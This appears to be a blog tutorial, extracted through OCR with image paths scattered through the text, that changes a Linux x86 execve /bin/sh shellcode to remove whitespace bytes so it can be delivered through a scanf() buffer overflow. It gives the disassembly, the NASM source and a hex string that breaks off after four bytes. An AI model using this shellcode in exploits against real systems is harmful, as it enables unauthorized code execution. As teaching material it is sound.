Josh Stone, Blog

Josh’s projects and security nerdery

No Whitespace Shellcode

Here’s another installment in my series of posts about mystical things that turn out not to be so mystical. The informationsecurity industry is full of these, and today I’m posting about shellcode. Shellcode is definitely arcane, but it’s possible to enter this world – at least enough to get things done.

I was working on exploiting a vulnerability that relied on delivering a payload to overflow a buffer through a call to scanf(). What I noticed was that sometimes the entire shellcode would make it, and other times it would get truncated. After wrestlingwith it for awhile, I found this gem in the scanf() man page regarding the %s format string:

   Matches a  sequence  of  non-white-space  characters;  the  next
   pointer must be a pointer to character array that is long enough
   to hold the input sequence and the  terminating  null  character
   ('\0'), which is added automatically.  The input string stops at
   white space or at the  maximum  field  width,  whichever  occurs

Note the key phrase “non-white-space characters.” Yes, scanf() will stop reading when it gets to anything it considers whitespace. Its definition can be a little expansive too – not just the normal newline, tab, space, etc. Some interesting characters are whitespace as well (like the 0x0b, which is a vertical tab). To exploit the vulnerability I was working on, I needed shellcode without any whitespace in it.

I found a lot of nice shellcode examples on Shell Storm, but very few that didn’t have at least a 0x0c or 0x0b in them. So, not to be dissuaded from winning, I decided to try my hand at modifying one. Here’s the sample from Shell Storm, originally written by Jean Pascal Pereira:

08048060 <_start>:
 8048060: 31 c0                 xor    %eax,%eax
 8048062: 50                    push   %eax
 8048063: 68 2f 2f 73 68push   $0x68732f2f
 8048068: 68 2f 62 69 6e        push   $0x6e69622f
 804806d: 89 e3                 mov    %esp,%ebx
 804806f: 89 c1                 mov    %eax,%ecx
 8048071: 89 c2                 mov    %eax,%edx
 8048073:b0 0b                 mov    $0xb,%al
 8048075: cd 80                 int    $0x80
 8048077: 31 c0                 xor    %eax,%eax
 8048079: 40                    inc    %eax
 804807a: cd 80                 int    $0x80

Note in the hexadecimal encoded machine code that there appears a 0x0b character. This is the offending whitespace (it’s a vertical tab – why do those even EXIST?). First, we must understand where this comes from. It is the machine code representation of the instruction (sorry for switching syntaxes on you, but I prefer NASM):

mov al, 0xb    ; moves the value 0x0b (decimal 11) into register al

The reason this is necessary is because we want to call the Linux sys_execve() syscall. It happens to be number 11, and we’re not going to execute our shell without doing this. So we have to find another way to accomplish the same thing (and taking extra instructions is fine, since it’s a small shellcode). Here’s one idea:

mov al, 0xb0    ; moves the value 0xb0 into al, preparing for transformation
shr al, 4       ; shifts the 'b' into the least significant nibble (now equals 0x0b)

The assembly changes as shown below:

b0 0b   ->   b0 b0 c0 e8 04

I had to make a couple other modifications, since you either have to make some padding at the end of the shellcode above so that the push instructions don’t clobber the shellcode, or move esp before executing the shellcode (see below). Now, I throw that into my assembler with the following source:

section .textglobal _start

    xor  eax, eax
    mov  al, 0x30     ; I added this so thatthere is room on the stack
    add  esp, eax     ; adding 48 bytes of extra space really helps
    xor  al, al
    push eax          ; This takes 4 bytes
    push 0x68732f2f   ; This takes another 4
    push 0x6e69622f   ; And finally, a total of 12 bytes of stack needed
    mov  ebx, esp
    mov  ecx, eax
    mov  al, 0xb0
    shr  al, 4
    int  0x80
    shr  al, 3
    int  0x80And a quick compile:Compile with NASM

The shell code works, and with just these small modifications, itwill work well in my real-worldcase where I need to inject it into scanf(). Here’s the hex string for reference:char *buf = "\x31\xc0\xb0\x30"